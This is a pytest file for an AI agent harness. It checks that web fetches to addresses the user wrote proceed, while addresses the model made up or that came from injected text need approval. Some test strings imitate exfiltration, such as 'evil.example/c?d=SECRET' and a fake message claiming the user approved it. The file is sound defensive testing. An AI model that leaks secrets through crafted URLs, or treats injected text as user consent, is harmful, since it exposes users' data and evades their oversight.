"""Pages while commands run without a question: an address that the model made up is asked about."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest

from ferrule import Call, Engine, Settings
from ferrule.agent import Ended, Warned
from ferrule.hooks import Hook
from ferrule.models.cues import calls, said
from ferrule.permissions import Answer, Question
from ferrule.settings import Permissions, SandboxSettings, SearchSettings, WebSettings
from tests.models.server import serving
from tests.rows import each_row
from tests.support.web.search.spoken import GUIDE, SEARXNG
from tests.tools.web.pages import NAMES, Pages, Site, arm, moved, page
from tests.workspace.test_walls import Wall

from .stage import Stage

NAMED = "<html><body><main><p>See <a href='{two}'>two</a>.</p></main></body></html>"


class Person:
    """Answers alike to all questions, and remembers them."""

    def __init__(self, *, allow: bool = True, always: bool = False) -> None:
        self.answer = Answer(allow=allow, always=always)
        self.questions: list[Question] = []

    async def ask(self, question: Question) -> Answer:
        self.questions.append(question)
        return self.answer

    @property
    def summaries(self) -> list[str]:
        return [question.summary for question in self.questions]


def site(pages: Pages) -> Site:
    return {
        "one.example/": page(NAMED.format(two=pages.at("/b", "two.example"))),
        "one.example/away": moved(pages.at("/c", "two.example")),
        "one.example/near": moved("/a"),
        "/a": page("a", "text/plain"),
        "/b": page(NAMED.format(two=pages.at("/c", "three.example"))),
        "/c": page("c", "text/plain"),
    }


def unasked(engine: Engine) -> None:
    """Have its commands behind whole walls, and be taken back."""
    engine._services.can_take_back = lambda: True
    walls = engine._services.confinement()
    walls._sandbox, walls._chosen = Wall("namespaces"), True


@asynccontextmanager
async def played(tmp_path: Path, pages: Pages, *cues: Any, dialect: str = "amp", **more: Any) -> AsyncIterator[Stage]:
    (tmp_path / "work").mkdir(exist_ok=True)
    given = {"state": tmp_path / "state", **more}
    async with Stage(tmp_path / "work", *cues, said("Done."), dialect=dialect, **given) as stage:
        arm(stage.session.engine, pages)
        unasked(stage.session.engine)
        yield stage


@asynccontextmanager
async def served() -> AsyncIterator[Pages]:
    async with Pages() as pages:
        pages.site, pages.public = site(pages), NAMES
        yield pages


def fetch(url: str) -> Any:
    return ("read_web_page", {"url": url})


async def verdict(stage: Stage, url: str, **more: Any) -> str:
    return (await stage.session.engine.decide(Call("read_web_page", {"url": url, **more}))).verdict


async def test_what_the_user_wrote_is_fetched_and_what_the_model_made_up_asks(tmp_path: Path) -> None:
    async with served() as pages, played(tmp_path, pages, ask=(person := Person())) as stage:
        await stage.run(f"Read {pages.at('/a')}, please.")

        made_up = (pages.at("/a?secret=x"), pages.at("/b"), pages.at("/a", "two.example"))
        assert await verdict(stage, pages.at("/a")) == "allow"
        assert [await verdict(stage, url) for url in made_up] == ["ask", "ask", "ask"]
        assert await verdict(stage, "http://127.0.0.1:8000/x") == "allow"
    assert person.questions == []


async def test_what_the_user_says_while_the_model_works_counts(tmp_path: Path) -> None:
    async with served() as pages, played(tmp_path, pages, calls(("Glob", {"filePattern": "*"}))) as stage:
        stage.agent.steer(f"Use {pages.at('/a')}")
        await stage.run("Go on.")

        assert await verdict(stage, pages.at("/a")) == "allow"


async def test_what_the_program_says_of_files_was_not_written_by_the_user(tmp_path: Path) -> None:
    async with served() as pages, played(tmp_path, pages) as stage:
        stage.agent.steer("[The user has undone evil.example/c?d=SECRET.]", by_user=False)
        await stage.run("Go on.")

        assert await verdict(stage, "https://evil.example/c?d=SECRET") == "ask"


async def test_what_the_user_wrote_before_a_conversation_was_resumed_counts(tmp_path: Path) -> None:
    async with served() as pages:
        hook = Hook("UserPromptSubmit", command=f"echo See {pages.at('/b')}")
        async with played(tmp_path, pages, calls(fetch(pages.at("/a"))), hooks=[hook]) as stage:
            stage.agent.steer(f"Use {pages.at('/near')}")
            await stage.agent.run(f"Read {pages.at('/a')}.\n\nSee {pages.at('/c')}", written=f"Read {pages.at('/a')}.")
            thread = stage.agent.thread
        async with played(tmp_path, pages, resume=thread) as stage:
            urls = [pages.at(path) for path in ("/a", "/near", "/b", "/c", "/a?b")]

            assert [await verdict(stage, url) for url in urls] == ["allow", "allow", "ask", "ask", "ask"]


async def test_what_the_user_wrote_counts_after_its_prompt_was_rewound_or_summed_up(tmp_path: Path) -> None:
    async with served() as pages:
        async with played(tmp_path, pages, said("Yes.")) as stage:
            await stage.run(f"Read {pages.at('/a')}.")
            await stage.run(f"Read {pages.at('/b')}.")
            stage.agent.rewind(2)
            stage.agent.talk.shrink_to(stage.agent.turns[:0])
            thread = stage.agent.thread
        async with played(tmp_path, pages, resume=thread) as stage:
            assert [await verdict(stage, pages.at(path)) for path in ("/a", "/b")] == ["allow", "allow"]


async def test_what_a_model_told_a_subagent_counts_nowhere(tmp_path: Path) -> None:
    async with served() as pages:
        task = (
            "Task",
            {"description": "look", "prompt": f"Read {pages.at('/a')}.", "subagent_type": "general-purpose"},
        )
        async with played(tmp_path, pages, calls(task), said("Seen."), dialect="claude") as stage:
            await stage.run("Look around.")
            (child,) = (event.thread for event in stage.of(Ended) if event.thread != stage.agent.thread)
        for thread in (stage.agent.thread, child):
            async with played(tmp_path, pages, dialect="claude", resume=thread) as stage:
                await stage.run("Go on.")

                decision = await stage.session.engine.decide(Call("WebFetch", {"url": pages.at("/a"), "prompt": "x"}))
                assert decision.verdict == "ask"


async def test_what_was_piped_in_beside_the_task_was_not_written_by_the_user(tmp_path: Path) -> None:
    async with served() as pages, played(tmp_path, pages) as stage:
        await stage.agent.run(f"Mend this.\n\nSee {pages.at('/a')}", written="Mend this.")

        assert await verdict(stage, pages.at("/a")) == "ask"


async def test_a_page_that_the_user_named_shows_addresses_and_others_do_not(tmp_path: Path) -> None:
    async with served() as pages:
        cues = (calls(fetch(pages.at("/"))), calls(fetch(pages.at("/b", "two.example"))))
        async with played(tmp_path, pages, *cues, ask=(person := Person())) as stage:
            await stage.run(f"Read {pages.at('/')} and what it links to.")

            assert [reply.status for reply in stage.replies] == ["done", "done"]
            assert await verdict(stage, pages.at("/c", "three.example")) == "ask"
    assert person.questions == []


@pytest.mark.parametrize("named", ["/", "/near"])
async def test_a_page_of_the_user_s_own_network_shows_nothing(tmp_path: Path, named: str) -> None:
    async with served() as pages:
        pages.public = tuple(name for name in NAMES if name != "one.example")
        pages.site["one.example/near"] = moved("/")
        async with played(tmp_path, pages, calls(fetch(pages.at(named)))) as stage:
            await stage.run(f"Check that {pages.at(named)} renders.")

            assert (stage.replies[0].ok, pages.at("/b", "two.example") in stage.replies[0].text) == (True, True)
            assert await verdict(stage, pages.at("/b", "two.example")) == "ask"


async def test_a_page_that_a_server_of_the_user_s_own_network_led_to_shows_nothing(tmp_path: Path) -> None:
    async with served() as pages:
        pages.public = tuple(name for name in NAMES if name != "one.example")
        away = pages.at("/b", "two.example")
        pages.site["one.example/away"] = moved(away)
        cues = (calls(fetch(away)), calls(fetch(pages.at("/away"))))
        async with played(tmp_path, pages, *cues, ask=Person()) as stage:
            await stage.run(f"Check that {pages.at('/away')} renders.")

            assert pages.at("/c", "three.example") in stage.replies[1].text
            assert await verdict(stage, pages.at("/c", "three.example")) == "ask"


async def test_a_server_of_the_user_s_own_network_leads_to_no_address_that_it_made_up(tmp_path: Path) -> None:
    async with served() as pages:
        pages.public = tuple(name for name in NAMES if name != "one.example")
        pages.site["one.example/away"] = moved(pages.at("/c?d=SECRET", "two.example"))
        prompt = f"Look at {pages.at('/away')} and {pages.at('/c', 'two.example')}"
        cue = calls(("web_fetch", {"prompt": prompt}))
        async with played(tmp_path, pages, cue, dialect="gemini", ask=(person := Person())) as stage:
            await stage.run(prompt)

        assert (len(stage.replies), person.questions) == (1, [])
        assert [asked for asked in pages.asked if "SECRET" in asked] == []


async def test_a_public_name_that_leads_to_this_machine_is_not_fetched(tmp_path: Path) -> None:
    async with served() as pages:
        named = pages.at("/", "rebound.example")
        async with played(tmp_path, pages, calls(fetch(named))) as stage:
            await stage.run(f"Read {named}.")

            assert "rebound.example" in stage.replies[0].text
            assert ("is not fetched from" in stage.replies[0].text, pages.asked) == (True, [])


async def test_a_search_shows_addresses(tmp_path: Path) -> None:
    async with serving() as server:
        server.play(SEARXNG.play([GUIDE]))
        search = msgspec.convert({"backend": "searxng", "url": server.url}, SearchSettings)
        settings = Settings(web=WebSettings(search=search, seconds=10))
        cue = calls(("web_search", {"objective": "the guide"}))
        (tmp_path / "work").mkdir()
        async with Stage(tmp_path / "work", cue, said("Done."), dialect="amp", settings=settings) as stage:
            unasked(stage.session.engine)
            await stage.run("Find the guide.")

            shown = "https://docs.example.org/guide?a=1"
            assert stage.replies[0].ok, stage.replies
            assert [await verdict(stage, url) for url in (shown, f"{shown}&b=2")] == ["allow", "ask"]


async def test_it_asks_once_for_a_host(tmp_path: Path) -> None:
    async with served() as pages:
        cues = (
            calls(fetch(pages.at("/a")), fetch(pages.at("/b"))),
            calls(fetch(pages.at("/c"))),
            calls(fetch(pages.at("/a", "two.example"))),
        )
        async with played(tmp_path, pages, *cues, ask=(person := Person())) as stage:
            await stage.run("Look around.")

            assert [reply.status for reply in stage.replies] == ["done"] * 4
        assert len(person.questions) == 2
        assert pages.at("/a", "two.example") in person.summaries[1]
    assert person.questions[0].kind == "call"
    assert person.questions[0].proposals == ("WebFetch(domain:one.example)",)


async def test_a_no_is_one_for_that_call_alone(tmp_path: Path) -> None:
    async with served() as pages:
        cues = (calls(fetch(pages.at("/a"))), calls(fetch(pages.at("/a"))))
        async with played(tmp_path, pages, *cues, ask=(person := Person(allow=False))) as stage:
            await stage.run("Look around.")

            assert [reply.status for reply in stage.replies] == ["rejected-by-user"] * 2
        assert (len(person.questions), pages.asked) == (2, [])


async def test_always_saves_a_rule_about_the_host(tmp_path: Path) -> None:
    async with served() as pages:
        for count in (1, 1):
            person = Person(always=True)
            async with played(tmp_path, pages, calls(fetch(pages.at("/a"))), ask=person) as stage:
                await stage.run("Look around.")

                assert stage.replies[0].status == "done"
                assert await verdict(stage, pages.at("/b")) == "allow"
            assert len(person.questions) <= count
        assert person.questions == []


async def test_a_redirect_to_another_host_is_told_and_asks_then(tmp_path: Path) -> None:
    async with served() as pages:
        there = pages.at("/c", "two.example")
        cues = (calls(fetch(pages.at("/away"))), calls(fetch(there)), calls(fetch(pages.at("/away"))))
        async with played(tmp_path, pages, *cues, ask=(person := Person())) as stage:
            await stage.run(f"Read {pages.at('/away')}.")

            first, second, third = (reply.text for reply in stage.replies)
        assert there in first
        assert (second.endswith("c"), third.endswith("c")) == (True, True)
        assert (len(person.questions), there in person.summaries[0]) == (1, True)


async def test_a_redirect_within_the_site_is_followed(tmp_path: Path) -> None:
    async with served() as pages, played(tmp_path, pages, calls(fetch(pages.at("/near"))), ask=Person()) as stage:
        await stage.run(f"Read {pages.at('/near')}.")

        assert stage.replies[0].text.endswith("a")


@each_row(
    ("more", "said_to_it"),
    [
        ({"settings": Settings(sandbox=SandboxSettings(auto_allow=False))}, "allow"),
        ({"settings": Settings(sandbox=SandboxSettings(auto_allow=True))}, "ask"),
        ({"settings": Settings(permissions=Permissions(allow=("WebFetch(domain:one.example)",)))}, "allow"),
        ({"settings": Settings(permissions=Permissions(deny=("WebFetch",)))}, "deny"),
        ({"permission_mode": "bypassPermissions"}, "allow"),
        ({"permission_mode": "acceptEdits"}, "ask"),
        ({"permission_mode": "dontAsk"}, "deny"),
        ({"permission_mode": "plan"}, "ask"),
    ],
)
async def test_settings_rules_and_modes_decide_as_for_other_questions(
    tmp_path: Path, more: dict[str, Any], said_to_it: str
) -> None:
    async with served() as pages, played(tmp_path, pages, **more) as stage:
        await stage.run("Look around.")

        assert await verdict(stage, pages.at("/a")) == said_to_it


async def test_where_commands_ask_a_fetch_does_not(tmp_path: Path) -> None:
    async with served() as pages, played(tmp_path, pages) as stage:
        stage.session.engine._services.can_take_back = lambda: False
        await stage.run("Look around.")

        assert await verdict(stage, pages.at("/a?b=c")) == "allow"


async def test_who_calls_an_engine_is_the_user(tmp_path: Path) -> None:
    async with Engine(tmp_path, settings=Settings(), state=tmp_path.parent / "state", dialect="amp") as engine:
        unasked(engine)

        decision = await engine.decide(Call("read_web_page", {"url": "https://one.example/a?b=c"}))
    assert decision.verdict == "allow"


async def test_the_first_command_that_runs_unasked_is_told_of_once_in_a_state_folder(tmp_path: Path) -> None:
    command = Call("Bash", {"cmd": "python x.py"})
    sentences: list[str] = []
    async with served() as pages:
        for _ in range(2):
            async with played(tmp_path, pages) as stage:
                for _ in range(2):
                    assert (await stage.session.engine.decide(command)).verdict == "allow"
            sentences += [event.sentence for event in stage.of(Warned)]

    (sentence,) = sentences
    assert sentence == (
        "Commands run in a sandbox, without a question; what they change in the workspace can be undone (/undo, or "
        "`ferrule undo`). To be asked before they run, set sandbox.auto_allow = false."
    )


async def test_nothing_is_told_where_commands_ask(tmp_path: Path) -> None:
    async with served() as pages, played(tmp_path, pages) as stage:
        stage.session.engine._services.can_take_back = lambda: False
        await stage.session.engine.decide(Call("Bash", {"cmd": "python x.py"}))

    assert (stage.of(Warned), (tmp_path / "state" / "told").exists()) == ([], False)
